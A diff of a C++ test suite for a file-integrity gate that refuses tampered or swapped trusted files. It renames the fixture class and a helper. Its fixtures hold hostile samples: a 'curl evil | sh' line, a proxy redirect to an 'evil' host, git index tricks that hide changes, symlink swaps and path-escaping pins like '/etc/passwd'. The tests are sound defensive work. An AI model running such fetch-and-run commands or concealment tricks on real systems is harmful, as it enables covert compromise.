@@ -9,7 +9,7 @@
 #include <filesystem>
 
 #include "common/sha256.hpp"
-#include "temp_tree.hpp"
+#include "tests/support/files.hpp"
 
 namespace hb::exec {
 
@@ -29,7 +29,7 @@ const std::string kCompose = "services:\n  api:\n    build: .\n  db:\n    image:
 const std::string kProxy = "server { listen 80; }\n";
 
 // A real git work tree with a committed TCB, pinned the way install pins it.
-class Gate : public ::testing::TestWithParam<Resolver> {
+class GateCheck : public ::testing::TestWithParam<Resolver> {
   protected:
     void SetUp() override {
         t.write("stack", kStack);
@@ -47,7 +47,7 @@ class Gate : public ::testing::TestWithParam<Resolver> {
 
     // Test code only: the executor itself never runs a shell.
     void git(const std::string& args) const {
-        const std::string cmd = "git -C " + t.root() +
+        const std::string cmd = "git -C " + t.path() +
                                 " -c user.name=t -c user.email=t@example.invalid"
                                 " -c init.defaultBranch=main " +
                                 args + " >/dev/null 2>&1";
@@ -56,11 +56,11 @@ class Gate : public ::testing::TestWithParam<Resolver> {
     // True when `git status` shows nothing: the change is hidden from git.
     bool git_sees_nothing() const {
         const std::string cmd =
-            "test -z \"$(git -C " + t.root() + " status --porcelain --untracked-files=no)\"";
+            "test -z \"$(git -C " + t.path() + " status --porcelain --untracked-files=no)\"";
         return std::system(cmd.c_str()) == 0;
     }
 
-    GateReport check() const { return check_tcb(t.root(), pins, GetParam()); }
+    GateReport check() const { return check_tcb(t.path(), pins, GetParam()); }
 
     void expect_refused(const std::string& path, const std::string& problem) const {
         const GateReport r = check();
@@ -72,101 +72,101 @@ class Gate : public ::testing::TestWithParam<Resolver> {
         EXPECT_NE(r.detail().find("hostbridge approve"), std::string::npos) << r.detail();
     }
 
-    test::TempTree t;
+    test::TempDir t;
     std::vector<TcbPin> pins;
 };
 
-TEST_P(Gate, UnchangedPasses) {
+TEST_P(GateCheck, UnchangedPasses) {
     const GateReport r = check();
     EXPECT_TRUE(r.passed()) << r.detail();
     EXPECT_EQ(r.detail(), "");
 }
 
-TEST_P(Gate, UncommittedChange) {
+TEST_P(GateCheck, UncommittedChange) {
     t.write("compose.yaml", kCompose + "  evil:\n    image: x\n");
     expect_refused("compose.yaml", "changed since it was approved");
 }
 
-TEST_P(Gate, CommittedChange) {
+TEST_P(GateCheck, CommittedChange) {
     t.write("stack", kStack + "curl evil | sh\n");
     git("commit -q -am sneaky");
     ASSERT_TRUE(git_sees_nothing());
     expect_refused("stack", "changed since it was approved");
 }
 
-TEST_P(Gate, SkipWorktreeHidesNothing) {
+TEST_P(GateCheck, SkipWorktreeHidesNothing) {
     git("update-index --skip-worktree stack");
     t.write("stack", kStack + "# hidden\n");
     ASSERT_TRUE(git_sees_nothing());
     expect_refused("stack", "changed since it was approved");
 }
 
-TEST_P(Gate, AssumeUnchangedHidesNothing) {
+TEST_P(GateCheck, AssumeUnchangedHidesNothing) {
     git("update-index --assume-unchanged conf/proxy.conf");
     t.write("conf/proxy.conf", kProxy + "location / { proxy_pass http://evil; }\n");
     ASSERT_TRUE(git_sees_nothing());
     expect_refused("conf/proxy.conf", "changed since it was approved");
 }
 
-TEST_P(Gate, SymlinkSwappedInForAFileWithTheSameContent) {
+TEST_P(GateCheck, SymlinkSwappedInForAFileWithTheSameContent) {
     t.write("elsewhere/stack", kStack);
     fs::remove(t.path("stack"));
     fs::create_symlink(t.path("elsewhere/stack"), t.path("stack"));
     expect_refused("stack", "is a symlink");
 }
 
-TEST_P(Gate, RelativeSymlinkInsideTheProject) {
+TEST_P(GateCheck, RelativeSymlinkInsideTheProject) {
     t.write("stack.real", kStack);
     fs::remove(t.path("stack"));
     fs::create_symlink("stack.real", t.path("stack"));
     expect_refused("stack", "is a symlink");
 }
 
-TEST_P(Gate, SymlinkSwappedInForAParentDirectory) {
+TEST_P(GateCheck, SymlinkSwappedInForAParentDirectory) {
     fs::rename(t.path("conf"), t.path("conf.real"));
     fs::create_directory_symlink(t.path("conf.real"), t.path("conf"));
     expect_refused("conf/proxy.conf", "is a symlink");
 }
 
-TEST_P(Gate, DeletedFile) {
+TEST_P(GateCheck, DeletedFile) {
     fs::remove(t.path("compose.yaml"));
     expect_refused("compose.yaml", "is missing");
 }
 
-TEST_P(Gate, FilePinnedAbsentAppears) {
+TEST_P(GateCheck, FilePinnedAbsentAppears) {
     t.write(".env", "SECRET=1\n");
     expect_refused(".env", "exists but was pinned as absent");
 }
 
-TEST_P(Gate, EmptyFilePinnedAbsentAppears) {
+TEST_P(GateCheck, EmptyFilePinnedAbsentAppears) {
     t.write(".env", "");
     expect_refused(".env", "exists but was pinned as absent");
 }
 
-TEST_P(Gate, DanglingSymlinkWherePinnedAbsent) {
+TEST_P(GateCheck, DanglingSymlinkWherePinnedAbsent) {
     fs::create_symlink("/nonexistent/target", t.path(".env"));
     expect_refused(".env", "is a symlink");
 }
 
-TEST_P(Gate, FifoInPlaceOfAPinnedFileDoesNotBlock) {
+TEST_P(GateCheck, FifoInPlaceOfAPinnedFileDoesNotBlock) {
     fs::remove(t.path("stack"));
     ASSERT_EQ(::mkfifo(t.path("stack").c_str(), 0600), 0);
     expect_refused("stack", "is not a regular file");
 }
 
-TEST_P(Gate, DirectoryInPlaceOfAPinnedFile) {
+TEST_P(GateCheck, DirectoryInPlaceOfAPinnedFile) {
     fs::remove(t.path("stack"));
     fs::create_directory(t.path("stack"));
     expect_refused("stack", "is not a regular file");
 }
 
-TEST_P(Gate, FileInPlaceOfAParentDirectory) {
+TEST_P(GateCheck, FileInPlaceOfAParentDirectory) {
     fs::remove_all(t.path("conf"));
     t.write("conf", "a file now\n");
     expect_refused("conf/proxy.conf", "is not a regular file");
 }
 
-TEST_P(Gate, EveryProblemIsListed) {
+TEST_P(GateCheck, EveryProblemIsListed) {
     t.write("stack", "changed\n");
     fs::remove(t.path("compose.yaml"));
     t.write(".env", "X=1\n");
@@ -180,7 +180,7 @@ TEST_P(Gate, EveryProblemIsListed) {
                   "check the change, then run `hostbridge approve`");
 }
 
-TEST_P(Gate, PinsThatEscapeTheProjectAreRefused) {
+TEST_P(GateCheck, PinsThatEscapeTheProjectAreRefused) {
     for (const std::string bad : {"../outside", "/etc/passwd", "conf/../stack", "./stack", "",
                                   "conf//proxy.conf", "conf/"}) {
         pins = {{bad, std::nullopt}};
@@ -190,14 +190,14 @@ TEST_P(Gate, PinsThatEscapeTheProjectAreRefused) {
     }
 }
 
-TEST_P(Gate, MissingProjectDirFailsEveryPin) {
+TEST_P(GateCheck, MissingProjectDirFailsEveryPin) {
     const GateReport r = check_tcb(t.path("gone"), pins, GetParam());
     ASSERT_EQ(r.problems.size(), pins.size());
     EXPECT_NE(r.problems[0].problem.find("cannot be opened"), std::string::npos);
 }
 
-TEST_P(Gate, ObservePinnedHashesARegularFile) {
-    const int dir = ::open(t.root().c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+TEST_P(GateCheck, ObservePinnedHashesARegularFile) {
+    const int dir = ::open(t.path().c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
     ASSERT_GE(dir, 0);
     const Observed o = observe_pinned(dir, "conf/proxy.conf", GetParam());
     EXPECT_EQ(o.state, FileState::Regular);
@@ -207,7 +207,7 @@ TEST_P(Gate, ObservePinnedHashesARegularFile) {
     ::close(dir);
 }
 
-INSTANTIATE_TEST_SUITE_P(IntegrityGate, Gate,
+INSTANTIATE_TEST_SUITE_P(IntegrityGate, GateCheck,
                          ::testing::Values(Resolver::Openat2, Resolver::ComponentWise),
                          [](const auto& param_info) {
                              return param_info.param == Resolver::Openat2 ? "openat2"
